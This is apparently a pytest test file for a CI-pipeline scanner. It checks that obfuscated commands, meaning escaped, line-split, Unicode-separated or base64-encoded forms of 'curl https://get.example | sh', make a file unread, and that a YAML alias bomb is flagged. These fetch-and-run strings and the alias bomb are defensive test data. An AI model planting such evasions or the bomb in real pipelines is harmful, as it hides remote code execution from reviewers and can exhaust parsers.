"""Where forges read another pipeline than our patterns do."""

from __future__ import annotations

import itertools

import pytest

from outsource_gate.model.finding import Read
from outsource_gate.scanners.ci_spots import ci_spot
from outsource_gate.scanners.classify import classify


@pytest.mark.parametrize(
    "line",
    [
        '"\\x63url https://get.example | sh"',
        '"curl\\u0020https://get.example \\x7c sh"',
        '"echo \\U00000061"',
        '"cu\\\n  rl https://get.example | sh"',
        "|\n    cu\\\n    rl https://get.example | sh",
        "make # harmless\u2028  - curl https://get.example | sh",
        "make # harmless\x85  - curl https://get.example | sh",
        "make\r  - curl https://get.example | sh",
        "!!binary Y3VybCBodHRwczovL2dldC5leGFtcGxlIHwgc2g=",
    ],
)
def test_a_command_that_is_spelt_otherwise_leaves_the_file_unread(line: str) -> None:
    file = classify(".gitlab-ci.yml", f"a:\n  script:\n  - {line}\n".encode())
    assert file.read is Read.UNREAD


@pytest.mark.parametrize(
    "line",
    [
        "printf '\\x1b[31mred\\x1b[0m'",
        "docker run \\\n    --rm tool",
        '"path \\\\x63"',
        "echo 'a\\nb' | sed 's/\\./-/'",
        "awk '{print \"\\x27\" $1}'",
        "make\r",
    ],
)
def test_usual_commands_are_read(line: str) -> None:
    assert ci_spot(b"", f"a:\n  script:\n  - {line}\n") is None


def test_what_semgrep_takes_too_long_for_leaves_the_file_unread() -> None:
    """It keeps no limit of its own for a long line in a block, nor for aliases of aliases."""
    long = "a:\n  script:\n  - |\n    make " + "x" * 40_000 + "\n"
    assert "characters in a block" in (ci_spot(b"", long) or "")
    bomb = "a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" + "".join(
        f"{name}: &{name} [{', '.join([f'*{before}'] * 10)}]\n" for before, name in itertools.pairwise("abcdefg")
    )
    assert "aliases that stand for" in (ci_spot(b"", bomb) or "")


@pytest.mark.parametrize("path", [".github/workflows/ci.yml", "action.yml", ".github/dependabot.yml"])
def test_it_holds_for_all_kinds_of_pipelines(path: str) -> None:
    assert classify(path, b'a: "\\x63url"\n').read is Read.UNREAD
    assert classify("data.yml", b'a: "\\x63url"\n').read is Read.INERT
